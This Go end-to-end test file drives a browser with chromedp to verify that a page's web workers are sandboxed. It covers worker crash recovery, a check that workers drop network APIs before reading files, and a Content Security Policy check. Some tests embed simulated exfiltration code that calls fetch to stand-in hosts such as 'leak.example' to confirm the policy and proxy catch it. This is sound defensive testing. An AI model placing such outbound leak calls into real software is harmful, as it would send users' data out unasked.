//go:build e2e

package e2e

import (
	"fmt"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

func TestAWorkerThatCrashesIsReplacedAndTheRunGoesOn(t *testing.T) {
	p := open(t, visit{before: seeWorkers})
	p.do(chromedp.Click(chromedp.ID("example-mega")))
	p.phase("ready")
	n := eval[int](p, "workers.length")
	eval[chromedp.Void](p, `workers[0].postMessage({request: "{", files: []})`) // a message that it cannot read
	p.do(chromedp.Click(chromedp.ID("example-mega")))
	p.phase("ready")
	p.until(fmt.Sprint("workers.length > ", n))
}

func TestWhereNoWorkerCanBeMadeThePageSaysSo(t *testing.T) {
	p := load(t, visit{before: `const Real = Worker; window.Worker = function (at) {
		if (window.allowed) return new Real(at);
		throw new DOMException("workers are forbidden", "SecurityError");
	};`})
	p.phase("empty")
	p.click("example-mega")
	p.phase("failed")
	if alerts := strings.Join(p.alerts(), " "); !strings.Contains(alerts, "workers are forbidden") {
		t.Errorf("%q", alerts)
	}
	eval[chromedp.Void](p, `window.allowed = true`)
	p.again(func() { p.click("retry") })
}

// askWorkers lets a test ask each worker what it has left, by a channel that
// was opened before the worker gave its own up.
const askWorkers = `
	window.Blob = class extends Blob {
		constructor(parts, options) {
			super(options?.type === "text/javascript" ? [probe, ...parts] : parts, options);
		}
	};
	const probe = ` + "`" + `{
		const names = ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "Worker", "caches", "indexedDB", "BroadcastChannel"];
		const channel = new BroadcastChannel("ask");
		const left = () => names.filter(n => self[n] !== undefined || WorkerGlobalScope.prototype[n] !== undefined);
		const had = left().length;
		channel.onmessage = () => channel.postMessage({had, left: left()});
	};` + "`" + `;`

func TestAWorkerGivesUpItsNetworkBeforeItReadsAFile(t *testing.T) {
	p := open(t, visit{before: askWorkers})
	p.do(chromedp.Click(chromedp.ID("example-mega")))
	p.phase("ready")
	got := eval[struct {
		Had  int
		Left []string
	}](p, `new Promise(done => {
		const channel = new BroadcastChannel("ask");
		channel.onmessage = e => done(e.data);
		channel.postMessage("");
	})`)
	if got.Had != 9 || len(got.Left) > 0 {
		t.Errorf("of %d a worker has %v left", got.Had, got.Left)
	}
}

func TestAWorkerHasNoNetwork(t *testing.T) {
	p := open(t, visit{})
	p.expects("Content Security Policy")
	// A page of the same policy may not make a worker that reaches out either.
	got := eval[string](p, `new Promise(done => {
		const code = "fetch('https://example.org/leak').then(() => postMessage('reached'), e => postMessage('refused'))";
		new Worker(URL.createObjectURL(new Blob([code]))).onmessage = e => done(e.data);
	})`)
	if got != "refused" || len(sought()) > 0 {
		t.Error(got, sought())
	}
}

// The proxy sees what goes out, or the test above would hold for nothing.
func TestTheProxySeesAWorkerThatReachesOut(t *testing.T) {
	before := len(sought())
	ctx, cancel := chromedp.NewContext(chromium, chromedp.WithNewBrowserContext())
	defer cancel()
	p := &page{TB: t, ctx: ctx}
	p.do()
	p.do(chromedp.Navigate(strings.TrimSuffix(address, prefix[1:]) + "nothing")) // no policy there
	eval[string](p, `new Promise(done => {
		const code = "fetch('https://leak.example/').then(() => postMessage('reached'), e => postMessage('refused'))";
		new Worker(URL.createObjectURL(new Blob([code]))).onmessage = e => done(e.data);
	})`)
	if hosts := sought(); len(hosts) <= before || !strings.Contains(strings.Join(hosts, " "), "leak.example") {
		t.Error("the proxy saw nothing")
	}
	forget()
}
